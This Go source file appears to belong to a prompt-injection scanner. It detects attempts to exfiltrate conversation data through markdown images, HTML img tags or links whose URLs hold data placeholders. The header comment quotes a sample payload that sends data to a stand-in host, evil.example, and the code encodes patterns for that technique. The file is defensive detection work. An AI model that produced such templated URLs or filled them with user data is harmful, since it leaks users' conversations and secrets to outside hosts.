package injection

import "strings"

// Exfiltration through a URL the client will fetch: a markdown image
// (![x](https://evil.example/?q={data})), an HTML <img>, or a link whose URL
// carries a template for conversation data. An image with a plain URL is
// ordinary markdown; what counts is a placeholder in the URL ({data},
// [SECRET], $HISTORY, %s, an upper-case value) or, for a URL with a query,
// instructions nearby to fill it (append, encode … the conversation, the
// password).

// Exfiltration bounds.
const (
	maxURL       = 2048
	maxAlt       = 300
	maxExfilHits = 16
	maxExfilTry  = 64 // URLs read per text
	exfilReach   = 40 // tokens either side for instructions
)

func (sc *scanner) exfil() {
	n, tries := 0, 0
	t := sc.text
	for at := 0; n < maxExfilHits && tries < maxExfilTry; {
		k := strings.Index(t[at:], "](")
		if k < 0 {
			break
		}
		tries++
		k += at
		at = k + 2
		u, end, ok := urlAt(t, k+2, ')')
		if !ok {
			continue
		}
		open := strings.LastIndexByte(t[max(0, k-maxAlt):k], '[')
		if open < 0 {
			continue
		}
		start := max(0, k-maxAlt) + open
		fam := famExfilLink
		if start > 0 && t[start-1] == '!' {
			start--
			fam = famExfilMarkdown
		}
		if sc.exfilHit(fam, start, end, u) {
			n++
		}
		at = end
	}
	for at := 0; n < maxExfilHits && tries < 2*maxExfilTry; {
		k := indexFold(t[at:], "<img")
		if k < 0 {
			break
		}
		tries++
		k += at
		at = k + 4
		closeTag := strings.IndexByte(t[k:min(len(t), k+maxAlt+maxURL)], '>')
		if closeTag < 0 {
			continue
		}
		tag := t[k : k+closeTag+1]
		s := indexFold(tag, "src=")
		if s < 0 || s+5 > len(tag) {
			continue
		}
		q := tag[s+4]
		if q != '"' && q != '\'' {
			continue
		}
		u, _, ok := urlAt(t, k+s+5, q)
		if !ok {
			continue
		}
		if sc.exfilHit(famExfilHTML, k, k+closeTag+1, u) {
			n++
		}
		at = k + closeTag + 1
	}
	// a bare URL with a placeholder and instructions to load it
	for at := 0; n < maxExfilHits && tries < 3*maxExfilTry; {
		k := indexFold(t[at:], "http")
		if k < 0 {
			break
		}
		k += at
		at = k + 4
		if k > 0 && (t[k-1] == '(' || t[k-1] == '"' || t[k-1] == '\'') {
			continue // markdown and HTML were read above
		}
		tries++
		u, end, ok := urlAt(t, k, ' ')
		if !ok {
			u = t[k:min(len(t), k+maxURL)]
			if sp := strings.IndexAny(u, " \n\t\r"); sp >= 0 {
				u = u[:sp]
			}
			end = k + len(u)
		} else {
			end-- // the space
		}
		u = strings.TrimRight(u, ".,;:!?)")
		if !hasTemplate(u) {
			continue
		}
		t0, t1 := sc.tokenAt(k), sc.tokenAt(end)
		if sc.near(t0, t1, exfilReach, cExfilVerb) && sc.near(t0, t1, exfilReach, cData|cSecret) {
			sc.addRaw(hit{start: k, end: k + len(u), z: 1.0, fam: famExfilLink})
			n++
		}
	}
}

// urlAt reads an absolute URL at t[i:] up to the byte stop (or a space); it
// returns the URL and the offset after stop.
func urlAt(t string, i int, stop byte) (string, int, bool) {
	rest := t[i:min(len(t), i+maxURL)]
	if !hasPrefixFold(rest, "http://") && !hasPrefixFold(rest, "https://") && !strings.HasPrefix(rest, "//") {
		return "", 0, false
	}
	depth, holder := 0, 0 // holder: inside a placeholder (<…>, {…}), where spaces may be
	for j := 0; j < len(rest); j++ {
		switch c := rest[j]; {
		case c == '<' || c == '{':
			holder++
		case (c == '>' || c == '}') && holder > 0:
			holder--
		case c == '\n' || c == '\r':
			return "", 0, false
		case (c == ' ' || c == '\t') && holder == 0:
			return "", 0, false
		case c == '(' && stop == ')':
			depth++
		case c == stop:
			if depth == 0 {
				return rest[:j], i + j + 1, true
			}
			depth--
		}
	}
	return "", 0, false
}

// exfilHit weighs one URL and adds a hit if it carries data.
func (sc *scanner) exfilHit(fam family, start, end int, u string) bool {
	templ := hasTemplate(u)
	query := strings.ContainsAny(u, "?=&")
	t0, t1 := sc.tokenAt(start), sc.tokenAt(end)
	ctx := sc.near(t0, t1, exfilReach, cExfilVerb) && sc.near(t0, t1, exfilReach, cData|cSecret)
	var z float64
	switch {
	case templ && fam != famExfilLink:
		z = 2.0
	case templ && ctx:
		z = 1.5
	case templ:
		z = -0.3
	case query && ctx && fam != famExfilLink:
		z = 1.2
	default:
		return false
	}
	if templ && ctx {
		z += 0.5
	}
	sc.addRaw(hit{start: start, end: end, z: z, fam: fam})
	return true
}

// hasTemplate reports whether a URL holds a placeholder for data.
func hasTemplate(u string) bool {
	host := strings.Index(u, "//")
	if host < 0 {
		return false
	}
	rest := u[host+2:]
	if strings.ContainsAny(rest, "{}<>$") || strings.Contains(rest, "%s") ||
		indexFold(rest, "%7b") >= 0 || indexFold(rest, "%3c") >= 0 {
		return true
	}
	path := strings.IndexByte(rest, '/')
	if path >= 0 && strings.ContainsAny(rest[path:], "[]") {
		return true
	}
	// an upper-case query value: ?q=DATA, ?secret=USER_PASSWORD
	q := strings.IndexByte(rest, '?')
	if q < 0 {
		return false
	}
	for kv := range strings.SplitSeq(rest[q+1:], "&") {
		eq := strings.IndexByte(kv, '=')
		v := kv[eq+1:]
		if eq > 0 && v == "" || len(v) >= 4 && isPlaceholder(v) {
			return true // "?token=" left for the model to fill, "?q=DATA"
		}
	}
	return false
}

// isPlaceholder reports whether v is upper-case letters and underscores
// with at least one vowel (DATA, CHAT_HISTORY, not an ID like XK9Q).
func isPlaceholder(v string) bool {
	vowel := false
	for i := 0; i < len(v); i++ {
		c := v[i]
		switch {
		case c == 'A' || c == 'E' || c == 'I' || c == 'O' || c == 'U':
			vowel = true
		case 'A' <= c && c <= 'Z' || c == '_':
		default:
			return false
		}
	}
	return vowel
}

// indexFold is strings.Index with ASCII case folding of s (sub must be
// lower case). It is linear in len(s).
func indexFold(s, sub string) int {
	if len(sub) == 0 {
		return 0
	}
	c0 := sub[0]
	upper := c0
	if 'a' <= c0 && c0 <= 'z' {
		upper = c0 - 'a' + 'A'
	}
	for i := 0; i+len(sub) <= len(s); i++ {
		if c := s[i]; c != c0 && c != upper {
			continue
		}
		if hasPrefixFold(s[i:], sub) {
			return i
		}
	}
	return -1
}

// hasPrefixFold is strings.HasPrefix with ASCII case folding of s (prefix
// must be lower case).
func hasPrefixFold(s, prefix string) bool {
	if len(s) < len(prefix) {
		return false
	}
	for i := 0; i < len(prefix); i++ {
		c := s[i]
		if 'A' <= c && c <= 'Z' {
			c += 'a' - 'A'
		}
		if c != prefix[i] {
			return false
		}
	}
	return true
}
